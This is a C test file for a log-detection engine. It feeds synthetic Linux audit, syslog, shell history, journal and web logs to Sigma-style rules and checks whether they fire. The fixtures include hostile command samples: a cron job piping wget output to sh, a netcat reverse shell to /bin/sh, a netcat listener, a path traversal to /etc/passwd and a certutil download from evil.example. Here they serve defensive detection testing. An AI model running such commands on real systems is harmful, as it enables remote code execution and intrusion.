/* maps_served_test.c - data/maps for everything but Windows: lines as they stand in logs, read
 * by their parsers, and rules as people write them.  Does the rule fire? */
#include "base/buf.h"
#include "base/encoding.h"
#include "detect/match.h"
#include "detect/rule.h"
#include "detect/rules_read.h"
#include "tests/support/detect_load.h"
#include "tests/support/journal_writer.h"
#include "tests/support/story.h"

#include <stdlib.h>
#include <unistd.h>

static char folder[] = "/tmp/akashi-maps-XXXXXX";
static struct ak_detector *detector;
static unsigned n_hits;

static void look(void *self, const struct ak_event *e)
{
    (void)self;
    const struct ak_hit *found;
    n_hits += ak_detector_look(detector, e, &found) != 0;
}

/* The log as a file of this name, by whichever parser bids for it. */
static bool parse(const char *name, struct ak_bytes log)
{
    char path[sizeof(folder) + 64];
    uint64_t size;
    snprintf(path, sizeof(path), "%s/%s", folder, name);
    FILE *f = fopen(path, "wb");
    if (!f || fwrite(log.at, 1, log.n, f) != log.n || fclose(f) != 0)
        return false;
    bool read = detect_parse(path, look, NULL, &size);
    unlink(path);
    return read;
}

/* On how many events of the log does a rule with this log source and selection fire?
 * 1000 when something else went wrong. */
static unsigned hits_in(const char *name, struct ak_bytes log, const char *source,
                        const char *selection)
{
    struct ak_arena *arena = ak_arena_new(64u << 20);
    struct ak_rules_options options = { 0 };
    struct ak_rules rules;
    struct ak_maps maps;
    struct ak_buf text = { 0 };
    ak_buf_printf(&text, "title: t\nlogsource: {%s}\ndetection:\n  s: %s\n  condition: s\n", source,
                  selection);
    struct ak_rule_file file = { AK_STR("t.yml"), { text.at, text.n } };
    n_hits = 0;
    bool good = ak_rules_read(arena, &file, 1, &options, &rules) == AK_OK && rules.n == 1 &&
                ak_maps_builtin(arena, &maps) == AK_OK;
    detector = good ? ak_detector_new(&rules, &maps) : NULL;
    if (!detector || !parse(name, log))
        n_hits = 1000;
    ak_detector_free(detector);
    ak_buf_free(&text);
    ak_arena_free(arena);
    return n_hits;
}

static unsigned hits(const char *name, const char *log, const char *source, const char *selection)
{
    return hits_in(name, ak_bytes_str(ak_str_of(log)), source, selection);
}

#define PROCESS "product: linux, category: process_creation"
#define AUDITD "product: linux, service: auditd"

static const char EXEC[] =
    "type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 success=yes ppid=1 pid=100 "
    "uid=33 euid=33 "
    "comm=\"git\" exe=\"/usr/bin/git\"\n"
    "type=EXECVE msg=audit(1700000000.000:1): argc=2 a0=\"git\" a1=\"pull\"\n"
    "type=SYSCALL msg=audit(1700000001.000:2): arch=c000003e syscall=59 success=yes ppid=100 "
    "pid=101 uid=0 "
    "comm=\"curl\" exe=\"/usr/bin/curl\"\n"
    "type=EXECVE msg=audit(1700000001.000:2): argc=3 a0=\"curl\" a1=\"-o\" a2=\"/tmp/x\"\n"
    "type=SYSCALL msg=audit(1700000002.000:3): arch=c000003e syscall=42 success=yes pid=101 "
    "exe=\"/usr/bin/curl\"\n"
    "type=SOCKADDR msg=audit(1700000002.000:3): saddr=0200115CC63364070000000000000000\n"
    "type=SYSCALL msg=audit(1700000003.000:4): arch=c000003e syscall=49 success=yes pid=101 "
    "exe=\"/usr/bin/curl\"\n"
    "type=SOCKADDR msg=audit(1700000003.000:4): saddr=0200115CC63364070000000000000000\n"
    "type=SYSCALL msg=audit(1700000004.000:5): arch=c000003e syscall=257 success=yes pid=101 "
    "exe=\"/usr/bin/curl\"\n"
    "type=PATH msg=audit(1700000004.000:5): item=1 name=\"/etc/cron.d/x\" nametype=CREATE\n"
    "type=PATH msg=audit(1700000004.000:5): item=0 name=\"/etc/cron.d/\" nametype=PARENT\n"
    "type=SERVICE_STOP msg=audit(1700000005.000:6): pid=1 uid=0 msg='unit=ufw comm=\"systemd\" "
    "res=success'\n"
    "type=SYSCALL msg=audit(1700000006.000:7): arch=c00000b7 syscall=59 success=yes pid=7 "
    "exe=\"/bin/x\"\n";

static void test_audit(void)
{
    TEST ("a process of the audit log has its program, arguments, parent and user") {
        CHECK(hits("audit.log", EXEC, PROCESS,
                   "{Image|endswith: /curl, CommandLine|contains: ' -o /tmp/'}") == 1);
        CHECK(hits("audit.log", EXEC, PROCESS,
                   "{Image|endswith: /curl, ParentImage|endswith: /git}") == 1);
        CHECK(hits("audit.log", EXEC, PROCESS, "{ParentCommandLine: git pull}") == 1);
        CHECK(hits("audit.log", EXEC, PROCESS, "{User: root}") == 1);
        CHECK(hits("audit.log", EXEC, PROCESS, "{Image|endswith: /wget}") == 0);
    }
    TEST ("the daemon's own names, arguments and numbers of calls") {
        CHECK(hits("audit.log", EXEC, AUDITD, "{type: EXECVE, a0: curl, a1: -o}") == 1);
        CHECK(hits("audit.log", EXEC, AUDITD, "{type: SYSCALL, SYSCALL: execve, euid: 33}") == 1);
        CHECK(hits("audit.log", EXEC, AUDITD, "{type: SYSCALL, comm: curl, exe: /usr/bin/curl}") ==
              1);
        CHECK(hits("audit.log", EXEC, AUDITD,
                   "{type: PATH, name|startswith: /etc/cron.d/, nametype: CREATE}") == 1);
        CHECK(hits("audit.log", EXEC, AUDITD, "{type: SERVICE_STOP, unit: [firewalld, ufw]}") == 1);
        CHECK(hits("audit.log", EXEC, AUDITD, "{exe: /bin/x, SYSCALL: execve}") ==
              0); /* 59 of another architecture */
    }
    TEST ("files made and connections, but not folders opened and sockets bound") {
        CHECK(hits("audit.log", EXEC, "product: linux, category: file_event",
                   "{TargetFilename|startswith: /etc/cron.d/, Image|endswith: /curl}") == 1);
        CHECK(hits("audit.log", EXEC, "product: linux, category: network_connection",
                   "{DestinationIp: 198.51.100.7, DestinationPort: 4444, Image|endswith: /curl, "
                   "Initiated: 'true'}") == 1);
    }
    TEST ("what sudo told the daemon is a process, with sudo as its parent") {
        CHECK(hits("audit.log",
                   "type=USER_CMD msg=audit(1700000000.000:1): pid=5 uid=1000 msg='cwd=\"/tmp\" "
                   "cmd=2F7573722F62696E2F696420 exe=\"/usr/bin/sudo\" res=success'\n",
                   PROCESS,
                   "{Image: /usr/bin/id, ParentImage|endswith: /sudo, CurrentDirectory: /tmp}") ==
              1);
    }
}

static const char AUTH[] =
    "Nov 14 22:00:00 web1 sshd[7]: Failed password for root from 203.0.113.9 port 4711 ssh2\n"
    "Nov 14 22:00:01 web1 sudo:    mio : TTY=pts/0 ; PWD=/home/mio ; USER=#-1 ; "
    "COMMAND=/usr/bin/id -u\n"
    "Nov 14 22:00:02 web1 CRON[9]: (root) CMD (wget -q http://192.0.2.1/x | sh)\n"
    "Nov 14 22:00:03 web1 kernel: [UFW ALLOW] IN=eth0 OUT= SRC=192.0.2.7 DST=192.0.2.1 LEN=60 "
    "PROTO=TCP SPT=9 DPT=21\n"
    "Nov 14 22:00:04 web1 crontab[9]: (mio) REPLACE (mio)\n"
    "Nov 14 22:00:05 web1 guacd[9]: User joined connection (2 users now present)\n"
    "Nov 14 22:00:06 web1 clamd[9]: /srv/x.php: Php.Webshell.Generic FOUND\n"
    "Nov 14 22:00:07 web1 app[9]: at com.sun.jndi.ldap.LdapCtx.c_lookup\n";

static void test_syslog(void)
{
    static const struct {
        const char *source, *selection;
        unsigned n;
    } RULES[] = {
        { "product: linux, service: sshd", "['Failed password']", 1 },
        { "product: linux, service: auth", "['Failed password']", 1 },
        { "product: linux, service: syslog", "['Failed password']", 1 },
        { "product: linux", "['Failed password']", 1 },
        { "product: linux, service: cron", "['Failed password']", 0 },
        { "product: linux, service: sudo", "{USER: '#-*'}", 1 },
        { PROCESS, "{Image: /usr/bin/id, CurrentDirectory: /home/mio}", 1 },
        { PROCESS, "{Image|endswith: /wget, CommandLine|contains: '| sh'}", 1 },
        { "category: firewall", "{dst_port: 21, src_ip: 192.0.2.7}", 1 },
        { "product: linux, service: cron", "[REPLACE]", 1 },
        { "product: linux, service: guacamole", "['(2 users now present)']", 1 },
        { "product: linux, service: clamav", "['Webshell*FOUND']", 1 },
        { "product: jvm, category: application", "['com.sun.jndi.ldap.']", 1 },
        { "product: windows, category: process_creation", "{Image|endswith: /wget}", 0 },
    };
    TEST ("each service of Linux has its lines of syslog, and no others") {
        for (size_t i = 0; i < sizeof(RULES) / sizeof(*RULES); i++) {
            unsigned n = hits("auth.log", AUTH, RULES[i].source, RULES[i].selection);
            CHECK(n == RULES[i].n);
            if (n != RULES[i].n)
                printf("      %s %s: %u\n", RULES[i].source, RULES[i].selection, n);
        }
    }
    TEST ("a command typed is a process by its first word, wherever the program was") {
        static const char TYPED[] = "#1700000000\nwget -q http://192.0.2.1/x\n#1700000001\n/tmp/nc "
                                    "-e /bin/sh 192.0.2.1 4\n";
        CHECK(hits(".bash_history", TYPED, PROCESS, "{Image|endswith: /wget}") == 1);
        CHECK(hits(".bash_history", TYPED, PROCESS,
                   "{Image: /tmp/nc, CommandLine|contains: ' -e /bin/sh'}") == 1);
        CHECK(hits(".bash_history", TYPED, PROCESS, "{Image|endswith: /sh}") == 0);
    }
    TEST ("vsftpd's own log") {
        CHECK(hits("vsftpd.log",
                   "Mon Jun  6 18:43:28 2016 [pid 2] DEBUG: Client \"192.0.2.9\", \"Bad HTTP "
                   "verb.\"\n",
                   "product: linux, service: vsftpd", "['Bad HTTP verb.']") == 1);
    }
}

static const char ACCESS[] = "192.0.2.9 - - [14/Nov/2023:22:13:20 +0000] \"GET "
                             "/cgi-bin/.%2e/.%2e/etc/passwd HTTP/1.1\" 200 9 \"-\" \"sqlmap/1.5\"\n"
                             "192.0.2.9 - mio [14/Nov/2023:22:13:21 +0000] \"POST /x.php?cmd=id "
                             "HTTP/1.1\" 404 9 \"http://a.example/\" \"curl/8\"\n"
                             "192.0.2.9 - - [14/Nov/2023:22:13:22 +0000] \"GET "
                             "http://evil.example/a.exe HTTP/1.1\" 200 9 \"-\" \"certutil\"\n";

static const char W3C[] = "#Software: Microsoft Internet Information Services 10.0\n"
                          "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
                          "cs-username c-ip cs(User-Agent) cs(Referer) sc-status\n"
                          "2023-11-14 22:13:20 192.0.2.1 POST /owa/auth/x.aspx a=1 443 - 192.0.2.9 "
                          "python-requests/2.31 - 200\n";

static const char PROXY[] = "#Software: SGOS 6.7\n"
                            "#Fields: date time c-ip cs-username sc-status s-action cs-method "
                            "cs-uri-scheme cs-host cs-uri-path cs-uri-query "
                            "cs-uri-extension cs(User-Agent) sc-bytes\n"
                            "2023-11-14 22:13:20 192.0.2.9 mio 200 TCP_NC_MISS GET http "
                            "evil.example /a.exe - exe \"Mozilla/5.0 evil\" 99\n";

static void test_web(void)
{
    static const struct {
        const char *name, *log, *source, *selection;
        unsigned n;
    } RULES[] = {
        { "access.log", ACCESS, "category: webserver",
          "{cs-uri-query|contains: '/cgi-bin/.%2e/', sc-status: 200}", 1 },
        { "access.log", ACCESS, "category: webserver",
          "{cs-uri-query|contains: cmd=, cs-method: POST}", 1 },
        { "access.log", ACCESS, "category: webserver",
          "{cs-uri-stem|endswith: .php, cs-username: mio}", 1 },
        { "access.log", ACCESS, "category: webserver", "{cs-user-agent|contains: sqlmap}", 1 },
        { "access.log", ACCESS, "category: webserver", "{cs-referer|contains: a.example}", 1 },
        { "access.log", ACCESS, "category: webserver", "{c-ip|cidr: 192.0.2.0/24}", 3 },
        { "access.log", ACCESS, "category: webserver", "[sqlmap]", 1 },
        { "access.log", ACCESS, "category: proxy", "{c-useragent|contains: sqlmap}", 0 },
        { "access.log", ACCESS, "service: apache", "[sqlmap]", 1 },
        { "u_ex231114.log", W3C, "category: webserver",
          "{cs-uri-stem|startswith: /owa/, cs-method: POST, sc-status: 200}", 1 },
        { "u_ex231114.log", W3C, "category: webserver",
          "{cs-uri-query|contains: '/owa/auth/x.aspx'}", 1 },
        { "u_ex231114.log", W3C, "category: webserver", "{cs-uri-query: a=1}", 1 },
        { "u_ex231114.log", W3C, "category: proxy", "{cs-method: POST}", 0 },
        { "u_ex231114.log", PROXY, "category: proxy",
          "{cs-host: evil.example, c-uri-extension: exe, cs-method: GET}", 1 },
        { "u_ex231114.log", PROXY, "category: proxy",
          "{c-useragent|contains: evil, c-uri|endswith: /a.exe}", 1 },
        { "error.log",
          "[Tue Nov 14 22:13:20.000000 2023] [core:notice] [pid 9] AH00052: child pid 10 exit "
          "signal "
          "Segmentation fault (11)\n",
          "service: apache", "['exit signal Segmentation Fault']", 1 },
        { "error.log",
          "2023/11/14 22:13:20 [alert] 1#1: worker process 9 exited on signal 6 (core dumped)\n",
          "service: nginx", "['exited on signal 6 (core dumped)']", 1 },
    };
    TEST ("requests answer to the names of W3C, whoever wrote them down") {
        for (size_t i = 0; i < sizeof(RULES) / sizeof(*RULES); i++) {
            unsigned n = hits(RULES[i].name, RULES[i].log, RULES[i].source, RULES[i].selection);
            CHECK(n == RULES[i].n);
            if (n != RULES[i].n)
                printf("      %s %s: %u\n", RULES[i].source, RULES[i].selection, n);
        }
    }
}

static void test_journal(void)
{
    static const char message[] = "MESSAGE=  mio : TTY=pts/0 ; PWD=/home/mio ; USER=root ; "
                                  "COMMAND=/usr/bin/wget -q x";
    static const char *const sudo[] = { "_COMM=sudo", "SYSLOG_IDENTIFIER=sudo",
                                        "SYSLOG_FACILITY=10", "_PID=5", message };
    static const char *const cron[] = { "_COMM=sh", "SYSLOG_IDENTIFIER=CRON", "SYSLOG_FACILITY=9",
                                        "_PID=6", "MESSAGE=(root) CMD (nc -l 4444)" };
    static const struct {
        const char *source, *selection;
        unsigned n;
    } RULES[] = {
        { "product: linux, service: sudo", "{USER: root, COMMAND|endswith: ' -q x'}", 1 },
        { "product: linux, service: auth", "['COMMAND=/usr/bin/wget']", 1 },
        { "product: linux, service: cron", "['nc -l']", 1 },
        { "product: linux, service: auth", "['nc -l']", 0 },
        { "product: linux, service: syslog", "['nc -l']", 1 },
        { PROCESS, "{Image|endswith: /wget, User: root, CurrentDirectory: /home/mio}", 1 },
        { PROCESS, "{Image|endswith: /nc, User: root}", 1 },
    };
    struct journalw_ids ids = { { 1 }, { 2 }, { 3 } };
    struct journalw *w = journalw_begin(&ids);
    bool written = w && journalw_entry(w, 1700000000000000, 1, sudo, 5) &&
                   journalw_entry(w, 1700000001000000, 2, cron, 5);
    struct ak_bytes journal = written ? journalw_end(w) : (struct ak_bytes){ 0 };
    TEST ("the journal's services are told by what a program called itself, not by what it was") {
        CHECK(journal.n > 0);
        for (size_t i = 0; journal.n && i < sizeof(RULES) / sizeof(*RULES); i++) {
            unsigned n = hits_in("system.journal", journal, RULES[i].source, RULES[i].selection);
            CHECK(n == RULES[i].n);
            if (n != RULES[i].n)
                printf("      %s %s: %u\n", RULES[i].source, RULES[i].selection, n);
        }
    }
    journalw_free(w);
}

int main(void)
{
    ak_encoding_open();
    if (!mkdtemp(folder))
        return 1;
    test_audit();
    test_syslog();
    test_journal();
    test_web();
    rmdir(folder);
    return story_report();
}
